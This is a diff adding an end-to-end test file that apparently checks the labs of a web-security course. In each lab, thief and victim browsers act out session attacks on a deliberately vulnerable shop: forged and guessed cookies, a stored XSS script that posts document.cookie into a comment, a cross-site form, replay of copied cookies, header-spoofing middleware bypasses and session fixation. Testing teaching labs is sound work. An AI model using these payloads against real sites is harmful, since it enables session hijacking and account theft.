@@ -1,0 +1,177 @@
+/** Every lab's attack, played by hand: thief and victim each in a real browser of their own, on the built site's servers. */
+import { CLAIMS, spellings } from "../../labs/05-middleware/attack.ts";
+import { listLabs } from "../../labs/kit/catalogue.ts";
+import { expect, logIn, test, trick } from "./hands.ts";
+import { asBob, cookiesOf, gather, read, tryValues, wear, type People } from "./people.ts";
+
+/** Answers everything that the thief read, whoever's it is. */
+type Deed = (people: People) => Promise<string>;
+
+const COUNTED = Array.from({ length: 16 }, (_, index) => String(index + 1));
+
+const forge: Deed = async (people) => {
+  const own = await asBob(people);
+  return tryValues(people, own, ["admin", "alice"]);
+};
+
+const guess: Deed = async (people) => {
+  await logIn(people.victim, people.shop);
+  const own = await asBob(people);
+  const edited = own.flatMap(({ value }) => ["admin", "alice"].map((name) => value.replace("bob", name)));
+  const last = own.flatMap(({ value }) => [..."0123456789abcdef"].map((digit) => value.slice(0, -1) + digit));
+  return tryValues(people, own, [...edited, ...last, ...COUNTED]);
+};
+
+/** Writes its reader's cookies into a comment, once in each tab. */
+const SCRIPT = `<script>addEventListener("DOMContentLoaded", () => {
+  if (sessionStorage.sent) return;
+  sessionStorage.sent = "yes";
+  document.forms[0].text.value = "read: " + document.cookie + ";";
+  document.forms[0].submit();
+})</script>`;
+
+const script: Deed = async (people) => {
+  const { shop, victim, thief } = people;
+  await logIn(victim, shop);
+  const own = await asBob(people);
+  await thief.goto(`${shop.url}/comments`);
+  await thief.getByLabel("Comment").fill(SCRIPT);
+  await thief.getByRole("button", { name: "Post" }).click();
+  await victim.goto(`${shop.url}/comments`);
+  await expect.poll(() => read(people, thief, "/comments")).toContain("read: ");
+  const [, value] = /read: \w+=(\w+);/.exec(await read(people, thief, "/comments")) ?? [];
+  return value === undefined ? "" : tryValues(people, own, [value]);
+};
+
+const otherSite: Deed = async (people) => {
+  const { shop, victim, thief } = people;
+  await victim.goto(trick(shop, "form"));
+  await victim.getByRole("button", { name: "Claim my free drink" }).click();
+  await victim.waitForURL(`${shop.url}/**`);
+  return read(people, thief, "/comments");
+};
+
+const patient: Deed = async (people) => {
+  await logIn(people.victim, people.shop);
+  await wear(people.thief, await cookiesOf(people, people.victim));
+  await people.skip(45);
+  return read(people, people.thief, "/dashboard");
+};
+
+const busy: Deed = async (people) => {
+  await logIn(people.victim, people.shop);
+  await wear(people.thief, await cookiesOf(people, people.victim));
+  let page = "";
+  for (let minutes = 20; minutes <= 9 * 60; minutes += 20) {
+    await people.skip(20);
+    page = await read(people, people.thief, "/dashboard");
+    if (minutes === 5 * 60) await logIn(people.victim, people.shop);
+  }
+  return page;
+};
+
+const DOORS = [
+  { method: "GET", path: "/dashboard" },
+  { method: "POST", path: "/export" },
+  { method: "POST", path: "/comments", form: { text: "hello", attach: "note" } },
+];
+type Attempt = (typeof DOORS)[number] & { headers?: Record<string, string> };
+
+const ATTEMPTS: Attempt[] = [
+  ...DOORS,
+  ...CLAIMS.flatMap(([name, value]) => DOORS.map((door) => ({ ...door, headers: { [name]: value } }))),
+  ...DOORS.flatMap((door) => spellings(door.path).map((path) => ({ ...door, path }))),
+];
+
+/** What each door answers to a request that carries the thief's own cookies. */
+const doors: Deed = async ({ shop, thief }) => {
+  let all = "";
+  for (const { path, ...request } of ATTEMPTS) {
+    // A sandbox answers a hundred requests a second; who is faster is told to come again.
+    await expect(async () => {
+      const response = await thief.request.fetch(shop.url + path, request);
+      expect(response.status()).not.toBe(429);
+      all += await response.text();
+    }).toPass();
+  }
+  return all;
+};
+
+const strangerThenBob: Deed = async (people) => {
+  await logIn(people.victim, people.shop);
+  const asNobody = await doors(people);
+  await asBob(people);
+  return asNobody + (await doors(people)) + (await read(people, people.thief, "/comments"));
+};
+
+const replay: Deed = async (people) => {
+  const { shop, victim, thief } = people;
+  await logIn(victim, shop);
+  await wear(thief, await cookiesOf(people, victim));
+  await Promise.all([victim.waitForNavigation(), victim.getByRole("button", { name: "Log out" }).click()]);
+  expect(await read(people, victim, "/dashboard")).toContain("Please log in.");
+  return read(people, thief, "/dashboard");
+};
+
+const fix: Deed = async (people) => {
+  const { shop, victim, thief } = people;
+  await thief.goto(`${shop.url}/basket`);
+  await thief.getByLabel("Item").fill("umbrella");
+  await thief.getByRole("button", { name: "Add" }).click();
+  await expect(thief.getByText("umbrella")).toBeVisible();
+  await wear(victim, await cookiesOf(people, thief));
+  await people.skip(5);
+  await logIn(victim, shop);
+  await people.skip(5);
+  return read(people, thief, "/dashboard");
+};
+
+const inTurn =
+  (...deeds: Deed[]): Deed =>
+  async (people) => {
+    let all = "";
+    for (const deed of deeds) all += await deed(people);
+    return all;
+  };
+
+const DEEDS: Record<string, { deed: Deed; how: string }> = {
+  "username-in-a-cookie": { deed: forge, how: "writing another name into his cookie" },
+  "random-ids": { deed: guess, how: "forging the name and guessing the ID" },
+  "cookie-flags": { deed: inTurn(script, otherSite), how: "a script in a comment, and a form on his own site" },
+  expiry: { deed: inTurn(patient, busy), how: "waiting with a copied cookie, and keeping it busy" },
+  middleware: { deed: strangerThenBob, how: "trying every door" },
+  logout: { deed: replay, how: "replaying the copied cookie after logout" },
+  fixation: { deed: fix, how: "planting a cookie and riding along" },
+};
+
+test("labs 1 to 7 are all played by hand", () => {
+  expect(Object.keys(DEEDS)).toEqual(
+    listLabs()
+      .slice(0, 7)
+      .map(({ slug }) => slug),
+  );
+});
+
+for (const [slug, { deed, how }] of Object.entries(DEEDS)) {
+  for (const variant of ["starter", "solution"]) {
+    // Chapter 1 builds the vulnerable server: before it is built nobody can log in.
+    const stolen = (variant === "solution") === (slug === "username-in-a-cookie");
+
+    test(`${slug}: by ${how} the thief ${stolen ? "reads somebody's note" : "gets nothing"} on the ${variant}`, async ({
+      browser,
+      request,
+      open,
+    }) => {
+      const people = await gather(browser, request, open(slug, variant));
+      const notes = (await deed(people)).match(/(?:locker|safe) \w{16}/g) ?? [];
+      await wear(people.thief, []);
+      await logIn(people.thief, people.shop, "bob", "builder");
+      const own = /locker \w{16}/.exec(await people.thief.content())?.[0];
+      expect(notes.some((note) => note !== own)).toBe(stolen);
+      const simulated = await request.post(`${open(slug, variant).url}/-/attack`, {
+        headers: { accept: "application/json" },
+      });
+      expect(await simulated.json()).toMatchObject({ stolen });
+    });
+  }
+}
